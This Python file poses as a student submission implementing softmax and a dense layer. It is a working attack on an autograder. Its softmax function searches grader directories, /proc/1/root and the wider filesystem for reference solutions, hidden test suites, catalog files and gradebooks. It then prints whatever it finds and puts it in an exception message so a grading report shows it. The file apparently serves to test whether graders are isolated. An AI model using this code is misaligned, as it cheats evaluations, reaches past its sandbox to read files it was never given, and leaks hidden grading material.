"""Leak: read the grader's reference, hidden suites, solutions and gradebook from disk.

Tries the usual locations (/work/main, /autograder/source, parents of this file and of the
working directory, /proc/1/root and /proc/1/cwd, relative ../ paths), then walks the whole
visible file system (a bounded number of entries) for reference/, suites/, solutions/,
catalog.toml and gradebooks. Anything it can read is printed and put into the exception
message, both of which a careless report shows to the student; it then returns garbage.
"""
import os

import numpy as np

WANTED = ("reference", "suites", "solutions", "catalog.toml", "gradebook", "results.json",
          "BEGIN SOLUTION")
FILES = ("reference/activations.py", "autograder/suites/activations.py", "solutions/activations.py",
         "autograder/catalog.toml", "reference/layers.py", "autograder/suites/layers.py")


def _roots():
    roots = ["/work/main", "/autograder/source", "/autograder", "/proc/1/root/work/main",
             "/proc/1/cwd", "..", "../..", "../../..", "/root", "/home", "/srv", "/opt"]
    for base in (os.path.dirname(os.path.abspath(__file__)), os.getcwd()):
        while base not in ("/", ""):
            roots.append(base)
            base = os.path.dirname(base)
    return roots


def _try_read(path, found):
    try:
        with open(path, "rb") as f:
            text = f.read(3000).decode("utf-8", "replace")
    except Exception:  # noqa: BLE001
        return
    found.append((path, text))


def _hunt():
    found = []
    for root in _roots():
        for rel in FILES:
            _try_read(os.path.join(root, rel), found)
    budget = 20000
    for dirpath, dirnames, filenames in os.walk("/", onerror=None):
        dirnames[:] = [d for d in dirnames if d not in ("proc", "sys", "dev", "usr", "lib", "lib64")]
        for name in filenames + dirnames:
            budget -= 1
            if any(w in os.path.join(dirpath, name) for w in WANTED):
                _try_read(os.path.join(dirpath, name), found)
        if budget <= 0:
            break
    return found


def softmax(x, axis=-1):
    found = _hunt()
    leaked = [(p, t) for p, t in found if any(w in t or w in p for w in WANTED)]
    for path, text in leaked:
        print("ATTACK-SUCCEEDED read", path)
        print(text)
    if leaked:
        raise RuntimeError("leaked: " + " | ".join(t for _, t in leaked)[:1900])
    return np.asarray(x, dtype=np.float64) * 3.0


def dense_forward(x, W, b):
    return x @ W.T + b, (x, W)
